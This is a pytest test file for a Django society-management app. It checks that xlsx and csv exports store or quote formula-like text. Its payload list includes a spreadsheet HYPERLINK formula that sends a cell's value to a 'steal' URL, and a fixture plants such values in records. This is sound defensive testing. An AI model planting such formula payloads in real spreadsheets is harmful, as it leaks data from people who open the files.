"""Exports never carry a live formula (W3): text that starts with =, +, -, @, a tab or a
carriage return is stored as text in every xlsx and quoted in every csv, and what we export
still imports back unchanged."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from xuehui.governance.choices import Office
from xuehui.lib.excel import read_workbook
from xuehui.lib.export import FORMULA_STARTS, Exporter
from xuehui.members.models import IndividualMember
from xuehui.tests import factories

LINK = '=HYPERLINK("http://127.0.0.1:9/steal?d="&B2,"点击查看")'
PAYLOADS = ["=1+1", LINK, "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1", "\r=1"]


class _Rows(Exporter):
    header = ("值", "数")

    def row(self, obj):
        return obj


def _formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_the_exporter_base_stores_formula_text_as_text_and_keeps_numbers():
    rows = [[payload, -3] for payload in PAYLOADS]
    data = _Rows(rows).write_xlsx()
    assert _formula_cells(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [sheet.cell(row=r, column=1).value for r in range(2, 2 + len(PAYLOADS))] == PAYLOADS
    assert sheet.cell(row=2, column=2).value == -3


def test_the_csv_quotes_formula_text_and_reads_back_unchanged():
    rows = [[payload, "普通文字"] for payload in PAYLOADS] + [["张三", "-"]]
    data = _Rows(rows).write_csv()
    text = data.decode("utf-8-sig")
    assert "'=1+1" in text and "'-3+4" in text and "'@SUM" in text
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    assert not any(field.startswith(FORMULA_STARTS) for field in fields)
    (sheet,) = read_workbook(data, filename="x.csv")
    assert [row[0] for row in sheet.rows[1:]] == [*PAYLOADS, "张三"]


@pytest.fixture
def poisoned(society_a):
    society_a.legal_representative = "=1+1"
    society_a.address = LINK
    society_a.save()
    term = factories.make_term(society_a)
    person = factories.make_person(society=society_a, name="=2+3", employer=LINK)
    factories.make_position(term, Office.PRESIDENT, person)
    IndividualMember.objects.create(society=society_a, member_number="A1", name="=4+5")
    return term


def test_every_web_export_is_free_of_formulas(admin_client, society_a, poisoned):
    urls = [
        reverse("societies:export"),
        reverse("governance:roster_export", args=[society_a.pk, poisoned.pk]),
        reverse("members:export", args=[society_a.pk, "individual"]),
        reverse("workbook:export", args=[society_a.pk]),
    ]
    for url in urls:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        data = b"".join(response.streaming_content) if response.streaming else response.content
        assert _formula_cells(data) == [], url
        values = {
            cell.value
            for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets
            for row in sheet.iter_rows()
            for cell in row
        }
        assert values & {"=1+1", "=2+3", "=4+5", LINK}, url


def test_the_command_line_roster_csv_is_quoted(society_a, poisoned, tmp_path):
    target = tmp_path / "名册.csv"
    call_command("export_roster", str(target), society=society_a.uscc, term=poisoned.number)
    text = target.read_text(encoding="utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    assert "'=2+3" in fields and not any(field.startswith(FORMULA_STARTS) for field in fields)
